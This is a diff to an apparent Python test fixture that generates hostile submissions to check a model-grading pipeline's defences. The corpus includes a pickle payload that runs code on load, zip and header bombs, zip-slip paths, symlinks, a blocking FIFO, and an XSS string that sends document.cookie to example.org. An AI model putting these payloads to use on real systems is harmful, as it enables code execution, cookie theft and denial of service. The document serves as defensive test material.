@@ -1,6 +1,6 @@
-"""Hostile and broken submissions, generated: what a careless or a clever student may hand in.
+"""A generated corpus of hostile and broken submissions, as a careless or a clever student might submit them.
 
-Each entry of CORPUS spoils a copy of an honest submission in place; what must happen to it stands in test_grading.py.
+Each entry of CORPUS changes a copy of an honest submission in place; see tests/faults/test_hostile.py.
 """
 
 import io
@@ -21,11 +21,11 @@ from tests.factory import HONEST
 from utils.files import sha256_file
 from utils.records.schema import recipe_hash
 
-TARGET = HONEST["1.2.2"]  # the run that is spoilt, where it is one; its checkpoint is small
+TARGET = HONEST["1.2.2"]  # the run that is tampered with; its checkpoint is small
 
 
 def edit_record(path: Path, change: Callable[[dict], None]) -> None:
-    """Change a record and make its digests and its recipe's hash fit, as a careful forger would."""
+    """Change a record and update its digests and its recipe's hash, as a careful forger would."""
     record = json.loads(path.read_text())
     change(record)
     record["recipe"]["hash"] = recipe_hash(record["recipe"]["fields"])
@@ -36,9 +36,9 @@ def edit_record(path: Path, change: Callable[[dict], None]) -> None:
 
 
 def claim_everything(path: Path) -> None:
-    """A record at `path` that agrees with itself and claims every test image."""
+    """Make the record at `path` claim every test image, consistently."""
 
-    def all_right(record: dict) -> None:
+    def all_correct(record: dict) -> None:
         with np.load(path.with_suffix(".npz")) as file:
             arrays = {name: file[name] for name in file.files}
         arrays["test_predictions"] = arrays["test_labels"].copy()
@@ -49,11 +49,11 @@ def claim_everything(path: Path) -> None:
             if name.startswith("test/classifier_top1"):
                 metric["correct"], metric["value"] = metric["n"], 1.0
 
-    edit_record(path, all_right)
+    edit_record(path, all_correct)
 
 
 class Payload:
-    """Unpickled, it would leave a file."""
+    """Creates a file when it is unpickled."""
 
     def __init__(self, path: Path) -> None:
         self.path = path
@@ -63,20 +63,20 @@ class Payload:
 
 
 def tamper(path: Path, what: str) -> None:
-    """Spoil the checkpoint at `path`."""
+    """Tamper with the checkpoint at `path` in one of several ways."""
     tensors = load_file(path)
-    some = "encoder.latent.weight"
+    name = "encoder.latent.weight"
     if what == "nan":
-        tensors[some][0, 0] = float("nan")
+        tensors[name][0, 0] = float("nan")
     elif what == "infinite":
-        bias = next(name for name in tensors if name.startswith("classifier.") and name.endswith("bias"))
+        bias = next(key for key in tensors if key.startswith("classifier.") and key.endswith("bias"))
         tensors[bias][0] = float("inf")
     elif what == "shape":
-        tensors[some] = tensors[some][:, :-1].contiguous()
+        tensors[name] = tensors[name][:, :-1].contiguous()
     elif what == "type":
-        tensors[some] = tensors[some].bfloat16()
+        tensors[name] = tensors[name].bfloat16()
     elif what == "missing":
-        del tensors[some]
+        del tensors[name]
     elif what == "unknown":
         tensors["encoder.backdoor"] = torch.zeros(1)
     save_file(tensors, path)
@@ -94,102 +94,102 @@ def tamper(path: Path, what: str) -> None:
         path.unlink()
 
 
-def spoilt(what: str) -> Callable[[Path], None]:
-    """A checkpoint that is tampered with, and a record whose digest fits it."""
-    def spoil(folder: Path) -> None:
+def tampered(what: str) -> Callable[[Path], None]:
+    """A checkpoint that was tampered with, and a record with its digest."""
+    def change_folder(folder: Path) -> None:
         tamper(folder / f"{TARGET}.safetensors", what)
         edit_record(folder / f"{TARGET}.json", lambda record: None)
-    return spoil
+    return change_folder
 
 
 def field(**values: object) -> Callable[[Path], None]:
-    """A record whose recipe asks for something else."""
+    """A record with other recipe fields."""
     return lambda folder: edit_record(folder / f"{TARGET}.json",
                                       lambda record: record["recipe"]["fields"].update(values))
 
 
 def text(change: Callable[[str], str]) -> Callable[[Path], None]:
-    """A record whose text is changed."""
-    def spoil(folder: Path) -> None:
+    """A record with another text."""
+    def change_folder(folder: Path) -> None:
         path = folder / f"{TARGET}.json"
         path.write_text(change(path.read_text()), encoding="utf-8")
-    return spoil
+    return change_folder
 
 
 def added(name: str, content: bytes = b"x") -> Callable[[Path], None]:
-    """One more file."""
-    def spoil(folder: Path) -> None:
+    """An additional file."""
+    def change_folder(folder: Path) -> None:
         (folder / name).parent.mkdir(parents=True, exist_ok=True)
         (folder / name).write_bytes(content)
-    return spoil
+    return change_folder
 
 
 def linked(name: str, target: str) -> Callable[[Path], None]:
-    """A link in the place of a file."""
-    def spoil(folder: Path) -> None:
+    """A link in place of a file."""
+    def change_folder(folder: Path) -> None:
         (folder / name).unlink(missing_ok=True)
         (folder / name).symlink_to(target)
-    return spoil
+    return change_folder
 
 
 def run_field(**values: object) -> Callable[[Path], None]:
-    """A record whose run says something else."""
+    """A record with other fields of its run."""
     return lambda folder: edit_record(folder / f"{TARGET}.json", lambda record: record["run"].update(values))
 
 
 def zipped(fill: Callable[[zipfile.ZipFile], None], renamed: Callable[[str], str] = str) -> Callable[[Path], None]:
-    """The honest submission as NAME.zip with more in it, in place of the folder."""
-    def spoil(folder: Path) -> None:
+    """The honest submission as NAME.zip with additions, in place of the folder."""
+    def change_folder(folder: Path) -> None:
         with zipfile.ZipFile(folder.with_name(folder.name + ".zip"), "w", zipfile.ZIP_DEFLATED) as archive:
             for path in sorted(folder.iterdir()):
-                archive.write(path, renamed(path.name), zipfile.ZIP_STORED)  # weights hardly become smaller
+                archive.write(path, renamed(path.name), zipfile.ZIP_STORED)  # weights hardly compress
             fill(archive)
         for path in folder.iterdir():
             path.unlink()
         folder.rmdir()
-    return spoil
+    return change_folder
 
 
 def with_entry(name: str, content: bytes = b"{}", mode: int = 0) -> Callable[[Path], None]:
     def fill(archive: zipfile.ZipFile) -> None:
         entry = zipfile.ZipInfo(name)
         entry.external_attr = mode << 16
-        with warnings.catch_warnings():  # of a name that is there already, which is what is wanted
+        with warnings.catch_warnings():  # about a duplicate name, which is intended
             warnings.simplefilter("ignore", UserWarning)
             archive.writestr(entry, content)
     return zipped(fill)
 
 
 def zip_bytes(change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
-    """The archive with its bytes changed."""
-    def spoil(folder: Path) -> None:
+    """The archive with changed bytes."""
+    def change_folder(folder: Path) -> None:
         zipped(lambda archive: None)(folder)
         path = folder.with_name(folder.name + ".zip")
         path.write_bytes(change(path.read_bytes()))
-    return spoil
+    return change_folder
 
 
 def arrays(change: Callable[[dict], None]) -> Callable[[Path], None]:
-    """Arrays beside the record that are changed, with a digest that fits."""
-    def spoil(folder: Path) -> None:
+    """Changed arrays, and a record with their digest."""
+    def change_folder(folder: Path) -> None:
         path = folder / f"{TARGET}.npz"
         with np.load(path) as file:
             kept = {name: file[name] for name in file.files}
         change(kept)
         np.savez_compressed(path, **kept)
         edit_record(path.with_suffix(".json"), lambda record: None)
-    return spoil
+    return change_folder
 
 
 def pickled_arrays(folder: Path) -> None:
-    """An .npz with an object array, whose loading would run code."""
+    """An .npz with an object array, which runs code when loaded."""
     path = folder / f"{TARGET}.npz"
     np.savez(path, test_labels=np.array([Payload(folder / "executed")], dtype=object))
     edit_record(path.with_suffix(".json"), lambda record: None)
 
 
 def bomb_of_arrays(folder: Path) -> None:
-    """An .npz of a few kilobytes that says it is a gigabyte and unpacks to a quarter of one."""
+    """An .npz of a few kilobytes that states a gigabyte and unpacks to a quarter of one."""
     path = folder / f"{TARGET}.npz"
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("map_points.npy", "w") as file:
         header = io.BytesIO()
@@ -213,7 +213,7 @@ def many(archive: zipfile.ZipFile) -> None:
 
 
 def other_weights(folder: Path) -> None:
-    """Weights that learned nothing under an honest record."""
+    """Random weights with an honest record."""
     path = folder / f"{TARGET}.safetensors"
     torch.manual_seed(3)
     save_file({name: torch.randn_like(value) if value.is_floating_point() and value.ndim > 1 else value
@@ -222,14 +222,14 @@ def other_weights(folder: Path) -> None:
 
 
 def long_header(folder: Path) -> None:
-    """A safetensors file whose header is a deep nest of brackets."""
+    """A safetensors file whose header is deeply nested."""
     header = b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
     (folder / f"{TARGET}.safetensors").write_bytes(struct.pack("<Q", len(header)) + header)
     edit_record(folder / f"{TARGET}.json", lambda record: None)
 
 
 def overlapping(folder: Path) -> None:
-    """A safetensors header whose tensors lie on each other."""
+    """A safetensors header with overlapping tensors."""
     header = json.dumps({"encoder.latent.weight": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                          "encoder.latent.bias": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}).encode()
     (folder / f"{TARGET}.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + bytes(12))
@@ -237,7 +237,7 @@ def overlapping(folder: Path) -> None:
 
 
 def denormal(folder: Path) -> None:
-    """Weights so small that processors compute with them a hundred times more slowly."""
+    """Denormal weights, which processors compute with a hundred times more slowly."""
     path = folder / f"{TARGET}.safetensors"
     save_file({name: value * 1e-38 if "conv" in name else value for name, value in load_file(path).items()}, path)
     edit_record(path.with_suffix(".json"), lambda record: None)
@@ -252,7 +252,7 @@ def twice_one_tensor(folder: Path) -> None:
 
 
 def central(change: Callable[[bytearray, int], None]) -> Callable[[bytes], bytes]:
-    """Change every entry of an archive's list, given the bytes and where the entry begins."""
+    """Change every entry of an archive's central directory; change(data, offset)."""
     def changed(data: bytes) -> bytes:
         out, place = bytearray(data), data.find(b"PK\1\2")
         while place >= 0:
@@ -262,8 +262,8 @@ def central(change: Callable[[bytearray, int], None]) -> Callable[[bytes], bytes
     return changed
 
 
-def spoilt_record(data: bytes) -> bytes:
-    """An archive in which a part of a record has become zeros."""
+def corrupted_record(data: bytes) -> bytes:
+    """An archive with zeros in the middle of a record."""
     at = data.find(f"{TARGET}.json".encode()) + 1000
     return data[:at] + bytes(1000) + data[at + 1000:]
 
@@ -276,13 +276,13 @@ def macintosh(archive: zipfile.ZipFile) -> None:
 
 
 def sparse(folder: Path) -> None:
-    """A file of a terabyte that takes no room."""
+    """A sparse file of a terabyte."""
     with (folder / "big.json").open("wb") as file:
         file.truncate(10**12)
 
 
 def pipe_as_archive(folder: Path) -> None:
-    """A pipe where an archive is expected: who opens it to read waits forever."""
+    """A pipe in place of an archive: opening it to read blocks forever."""
     only()(folder)
     folder.rmdir()
     os.mkfifo(folder.with_name(folder.name + ".zip"))
@@ -300,16 +300,16 @@ def pipe(folder: Path) -> None:
 
 
 def only(*names: str) -> Callable[[Path], None]:
-    """Nothing but these files is left."""
-    def spoil(folder: Path) -> None:
+    """Only these files are left."""
+    def change_folder(folder: Path) -> None:
         for path in folder.iterdir():
             if path.name not in names:
                 path.unlink()
-    return spoil
+    return change_folder
 
 
 def nameless(folder: Path) -> None:
-    """An entry whose name is the character that ends names."""
+    """An entry whose name begins with a null character."""
     zipped(lambda archive: archive.writestr("~nameless", "{}"))(folder)
     path = folder.with_name(folder.name + ".zip")
     path.write_bytes(path.read_bytes().replace(b"~nameless", b"\0nameless"))
@@ -318,11 +318,11 @@ def nameless(folder: Path) -> None:
 SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script><img src=x onerror=alert(1)>"
 CORPUS: dict[str, Callable[[Path], None]] = {
     # checkpoints
-    "pickle-as-safetensors": spoilt("pickle"), "torch-pickle-as-safetensors": spoilt("torch pickle"),
-    "header-bomb": spoilt("header bomb"), "deep-header": long_header, "overlapping-tensors": overlapping,
-    "nan-weights": spoilt("nan"), "inf-weights": spoilt("infinite"), "wrong-shape": spoilt("shape"),
-    "wrong-type": spoilt("type"), "missing-tensor": spoilt("missing"), "unknown-tensor": spoilt("unknown"),
-    "cut-checkpoint": spoilt("cut short"), "empty-checkpoint": spoilt("empty"), "no-checkpoint": spoilt("gone"),
+    "pickle-as-safetensors": tampered("pickle"), "torch-pickle-as-safetensors": tampered("torch pickle"),
+    "header-bomb": tampered("header bomb"), "deep-header": long_header, "overlapping-tensors": overlapping,
+    "nan-weights": tampered("nan"), "inf-weights": tampered("infinite"), "wrong-shape": tampered("shape"),
+    "wrong-type": tampered("type"), "missing-tensor": tampered("missing"), "unknown-tensor": tampered("unknown"),
+    "cut-checkpoint": tampered("cut short"), "empty-checkpoint": tampered("empty"), "no-checkpoint": tampered("gone"),
     "stale-digest": lambda folder: tamper(folder / f"{TARGET}.safetensors", "nan"), "other-weights": other_weights,
     "pickle-as-pt": added("model.pt", pickle.dumps(Payload(Path("executed")))),
     # records
@@ -391,5 +391,5 @@ CORPUS: dict[str, Callable[[Path], None]] = {
     "zip-windows-slip": with_entry("..\\..\\escaped.json"),
     "a\nb": added("=x.json", b"{}"), "a b": added("=x.json", b"{}"),
     "zip-null-name": with_entry("a\x01b.json"),
-    "zip-flipped": zip_bytes(spoilt_record),
+    "zip-flipped": zip_bytes(corrupted_record),
 }
